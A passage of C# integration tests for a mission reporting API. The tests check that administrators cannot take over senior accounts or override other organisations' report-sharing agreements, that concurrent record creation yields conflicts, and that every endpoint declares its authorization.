
        // Resetting a senior colleague's password would be signing in with what they hold.
        var taken = await admin.PatchAsJsonAsync($"/api/members/{chief}", new { password = "taken-over-123" });
        var demoted = await admin.PatchAsJsonAsync($"/api/members/{chief}", new { disabled = true });
        var (signIn, _) = await server.Anonymous().PostJson("/api/auth/signin", new { userName = chief, password = "taken-over-123" });
        var (auditor, refusal) = await admin.PostJson("/api/organizations/UNPOL/members",
            new { userName = "a" + chief, password = "a-long-password", clearance = "UNCLASSIFIED", roles = new[] { "auditor" } });
        var byMissionAdmin = await server.ClientFor("jocadmin").PatchAsJsonAsync($"/api/members/{chief}", new { displayName = "Chief of police" });

        Assert.Equal(HttpStatusCode.Forbidden, taken.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, demoted.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, signIn.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, auditor.StatusCode);
        Assert.Equal(["roles"], refusal.ErrorFields());
        Assert.Equal(HttpStatusCode.OK, byMissionAdmin.StatusCode);
    }

    [Fact]
    public async Task A_rule_whose_reporter_is_written_with_spaces_or_capitals_marks_the_reports_it_names()
    {
        // Validation read " Kind: Humanitarian " as kind:humanitarian, but the rule was stored and applied as written and
        // matched nothing: another party's administrator could so switch off an organisation's rule while appearing to
        // keep it.
        const string Category = "ocha-access.8-mines-and-uxo";
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var missionAdmin = server.ClientFor("jocadmin");
        var (recorded, _) = await missionAdmin.PostJson("/api/agreements", new
        {
            code,
            name = "Agreement " + code,
            parties = new[] { "OCHA", "JOC" },
            rules = new[] { new { reporter = " Kind: Humanitarian ", category = Category, marking = Api.Marking("CONFIDENTIAL", ["org:OCHA", "org:JOC"]), tlp = "amber" } },
        });
        try
        {
            Assert.Equal(HttpStatusCode.Created, recorded.StatusCode);
            var (created, report) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Fields(Api.Report(category: Category, marking: null), without: "marking"));
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
            Assert.Equal("CONFIDENTIAL", report.GetProperty("marking").GetProperty("classification").GetString());
            var (_, versions) = await missionAdmin.GetJson($"/api/agreements/{code}");
            Assert.Contains("\"reporter\":\"kind:humanitarian\"", versions.ToString(), StringComparison.Ordinal);
        }
        finally
        {
            await missionAdmin.DeleteAsync($"/api/agreements/{code}");
        }
    }

    [Fact]
    public async Task An_agreement_marks_only_its_parties_reports_and_each_organisation_agrees_its_own_defaults()
    {
        // A category no other test gives an agreement rule, and every agreement is retired at the end.
        const string Category = "ocha-access.9-physical-environment";
        object Rule(string reporter, string level, string[] releasableTo) => new { reporter, category = Category, marking = Api.Marking(level, releasableTo), tlp = "amber" };
        string Code() => "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var unpolAdmin = server.ClientFor("unpoladmin");
        var missionAdmin = server.ClientFor("jocadmin");
        var codes = new List<string>();
        async Task<HttpStatusCode> Record(HttpClient client, string code, string[] parties, params object[] rules)
        {
            var (answer, _) = await client.PostJson("/api/agreements", new { code, name = "Agreement " + code, parties, rules });
            if (answer.StatusCode == HttpStatusCode.Created)
            {
                codes.Add(code);
            }

            return answer.StatusCode;
        }

        async Task<HttpStatusCode> Revise(HttpClient client, string code, string[] parties, params object[] rules) =>
            (await client.PutAsJsonAsync($"/api/agreements/{code}", new { name = "Agreement " + code, parties, rules })).StatusCode;

        async Task<JsonElement> OchaReport()
        {
            var (created, report) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Fields(Api.Report(category: Category, marking: null), without: "marking"));
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
            return report;
        }

        try
        {
            // UNPOL's administrator cannot release humanitarian reports to the military: not by naming OCHA a party...
            Assert.Equal(HttpStatusCode.Forbidden, await Record(unpolAdmin, Code(), ["UNPOL", "OCHA"], Rule("kind:humanitarian", "UNCLASSIFIED", ["kind:military"])));
            // ...nor by a rule for humanitarians in an agreement of UNPOL's own, which binds its parties only.
            Assert.Equal(HttpStatusCode.Created, await Record(unpolAdmin, Code(), ["UNPOL"], Rule("kind:humanitarian", "UNCLASSIFIED", ["kind:military"])));
            var unbound = await OchaReport();
            Assert.Equal(["org:OCHA"], unbound.GetProperty("marking").GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()!).ToArray());
            Assert.Equal(HttpStatusCode.NotFound, (await server.ClientFor("force").GetAsync($"/api/reports/{Id(unbound)}")).StatusCode);

            // An agreement between OCHA and UNPOL (recorded by a mission administrator): UNPOL's administrator may change
            // UNPOL's defaults and keep OCHA's as agreed, not change OCHA's.
            var shared = Code();
            var ochaRule = Rule("org:OCHA", "CONFIDENTIAL", ["org:JOC"]);
            Assert.Equal(HttpStatusCode.Created, await Record(missionAdmin, shared, ["UNPOL", "OCHA"], ochaRule, Rule("org:UNPOL", "CONFIDENTIAL", [])));
            Assert.Equal(HttpStatusCode.OK, await Revise(unpolAdmin, shared, ["UNPOL", "OCHA"], ochaRule, Rule("org:UNPOL", "CONFIDENTIAL", ["org:JOC"])));
            Assert.Equal(HttpStatusCode.Forbidden, await Revise(unpolAdmin, shared, ["UNPOL", "OCHA"], Rule("org:OCHA", "UNCLASSIFIED", ["kind:military"])));
            // Nor take OCHA's rule away (a broader, looser one would mark its reports), nor OCHA out of the agreement.
            Assert.Equal(HttpStatusCode.Forbidden, await Revise(unpolAdmin, shared, ["UNPOL", "OCHA"], Rule("org:UNPOL", "CONFIDENTIAL", ["org:JOC"])));
            Assert.Equal(HttpStatusCode.Forbidden, await Revise(unpolAdmin, shared, ["UNPOL"], Rule("org:UNPOL", "CONFIDENTIAL", ["org:JOC"])));
            // Nor retire the agreement, which takes OCHA's rule away as well: OCHA's reports keep their agreed marking.
            var (retire, refusal) = await unpolAdmin.DeleteAsync($"/api/agreements/{shared}") is var d ? (d, await d.Json()) : default;
            Assert.Equal(HttpStatusCode.Forbidden, retire.StatusCode);
            Assert.Contains("revise the agreement without it", refusal.GetProperty("detail").GetString(), StringComparison.Ordinal);
            Assert.Equal(["org:JOC", "org:OCHA"], (await OchaReport()).GetProperty("marking").GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()!).ToArray());
            // An agreement whose rules are UNPOL's alone is UNPOL's administrator's to retire.
            var unpolsOwn = Code();
            Assert.Equal(HttpStatusCode.Created, await Record(missionAdmin, unpolsOwn, ["UNPOL", "OCHA"], Rule("org:UNPOL", "CONFIDENTIAL", [])));
            Assert.Equal(HttpStatusCode.NoContent, (await unpolAdmin.DeleteAsync($"/api/agreements/{unpolsOwn}")).StatusCode);

            // OCHA's agreement with the JOC: UNPOL's administrator, not a party, may not revise it, even by adding UNPOL.
            var theirs = Code();
            Assert.Equal(HttpStatusCode.Created, await Record(missionAdmin, theirs, ["OCHA", "JOC"], Rule("org:JOC", "CONFIDENTIAL", [])));
            Assert.Equal(HttpStatusCode.Forbidden, await Revise(unpolAdmin, theirs, ["OCHA", "JOC", "UNPOL"], Rule("org:UNPOL", "UNCLASSIFIED", ["mission"])));

            // A retired agreement is not brought back by a new version of it: agreeing again is a new agreement.
            var withdrawn = Code();
            Assert.Equal(HttpStatusCode.Created, await Record(missionAdmin, withdrawn, ["UNPOL", "OCHA"], Rule("org:UNPOL", "CONFIDENTIAL", [])));
            Assert.Equal(HttpStatusCode.NoContent, (await missionAdmin.DeleteAsync($"/api/agreements/{withdrawn}")).StatusCode);
            Assert.Equal(HttpStatusCode.Conflict, await Revise(unpolAdmin, withdrawn, ["UNPOL", "OCHA"], Rule("org:UNPOL", "CONFIDENTIAL", [])));
            // Nor recorded again under its code, which stays with its history: the answer says to take a new one.
            var (again, againProblem) = await missionAdmin.PostJson("/api/agreements", new { code = withdrawn, name = "Agreement " + withdrawn, parties = new[] { "UNPOL", "OCHA" }, rules = new[] { Rule("org:UNPOL", "CONFIDENTIAL", []) } });
            Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
            Assert.Contains("takes a new code", againProblem.GetProperty("errors").GetProperty("code")[0].GetString(), StringComparison.Ordinal);

            var agreed = await OchaReport();
            Assert.Equal("CONFIDENTIAL", agreed.GetProperty("marking").GetProperty("classification").GetString());
            Assert.Equal(["org:JOC", "org:OCHA"], agreed.GetProperty("marking").GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()!).ToArray());
            Assert.Equal(HttpStatusCode.NotFound, (await server.ClientFor("force").GetAsync($"/api/reports/{Id(agreed)}")).StatusCode);
        }
        finally
        {
            foreach (var code in codes)
            {
                await missionAdmin.DeleteAsync($"/api/agreements/{code}");
            }
        }
    }

    [Fact]
    public async Task Administrators_creating_the_same_record_at_once_get_one_creation_and_conflicts_naming_the_field()
    {
        var admin = await server.SignedInAsync("jocadmin");
        var tag = Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var creations = new (string Path, object Body, string Field)[]
        {
            ("/api/organizations", new { code = "ORG" + tag, name = "Same organisation", kind = "police" }, "code"),
            ("/api/organizations/JOC/members", new { userName = "same" + tag.ToLowerInvariant(), password = "a-long-password", clearance = "CONFIDENTIAL" }, "userName"),
            ("/api/groups", new { code = "GRP" + tag, name = "Same group" }, "code"),
            ("/api/agreements", new { code = "MOU" + tag, name = "Same agreement", parties = new[] { "JOC" }, rules = new[] { new { reporter = "org:JOC", category = "poc", marking = Api.Marking("CONFIDENTIAL", ["org:JOC"]) } } }, "code"),
        };

        foreach (var (path, body, field) in creations)
        {
            // Eight at once: each passes the existence check before any has stored; the store's unique index decides.
            var answers = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => admin.PostJson(path, body)));

            Assert.True(answers.Count(a => a.Response.StatusCode == HttpStatusCode.Created) == 1, $"{path}: {string.Join(", ", answers.Select(a => (int)a.Response.StatusCode))} {answers[0].Body}");
            foreach (var (response, problem) in answers.Where(a => a.Response.StatusCode != HttpStatusCode.Created))
            {
                Assert.True(response.StatusCode == HttpStatusCode.Conflict, $"{path}: {(int)response.StatusCode} {problem}");
                Assert.Equal([field], problem.ErrorFields());
            }
        }

        var memberships = await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => admin.PutAsync($"/api/groups/GRP{tag}/members/OCHA", null)));
        Assert.All(memberships, m => Assert.Equal(HttpStatusCode.NoContent, m.StatusCode));
        var (_, groups) = await admin.GetJson("/api/groups");
        var group = groups.EnumerateArray().Single(g => g.GetProperty("code").GetString() == "GRP" + tag);
        Assert.Equal(["JOC", "OCHA"], group.GetProperty("members").EnumerateArray().Select(m => m.GetString()!).Order().ToArray());

        // Retired again, an agreement is answered as retired, and its retirement recorded once (the audit tells of changes made).
        var agreement = "AGR" + tag;
        Assert.Equal(HttpStatusCode.Created, (await admin.PostJson("/api/agreements", new { code = agreement, name = "Agreement " + tag, parties = new[] { "JOC" }, rules = new[] { new { reporter = "org:JOC", category = "poc", marking = Api.Marking("CONFIDENTIAL", ["org:JOC"]) } } })).Response.StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/agreements/{agreement}")).StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/agreements/{agreement}")).StatusCode);
        var recorded = await server.WithDbAsync(db => db.Audit.Where(a => a.Action == AuditActions.Administer && a.Entity == "agreement").Select(a => a.Detail).ToListAsync());
        Assert.Equal(1, recorded.Count(d => d.Contains("\"retired\":\"" + agreement + "\"", StringComparison.Ordinal)));
    }

    [Fact]
    public void Every_endpoint_declares_its_authorization()
    {
        var endpoints = server.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>().ToList();

        Assert.True(endpoints.Count > 30);
        var undeclared = endpoints
            .Where(e => e.Metadata.GetMetadata<IAuthorizeData>() is null && e.Metadata.GetMetadata<IAllowAnonymous>() is null)
            .Select(e => e.RoutePattern.RawText)
            .ToList();
        Assert.Empty(undeclared);
        var anonymous = endpoints.Where(e => e.Metadata.GetMetadata<IAllowAnonymous>() is not null).Select(e => e.RoutePattern.RawText).Order().ToList();
        // The report page answers a request without a session itself: a visit goes to the sign-in page, a form sent after its
        // session ended is held for a sign-in on the spot (NewReport.razor; MapAndUiTests shows it tells nothing of the mission).
        Assert.Equal(["/api/auth/signin", "/health", "/openapi/{documentName}.json", "/report", "/signin", "/signout", "/ui/culture"], anonymous);
    }
}

public sealed class SharingTests_Sqlite(SqliteServer server) : SharingTests<SqliteServer>(server);

public sealed class SharingTests_Postgres(PostgresServer server) : SharingTests<PostgresServer>(server);
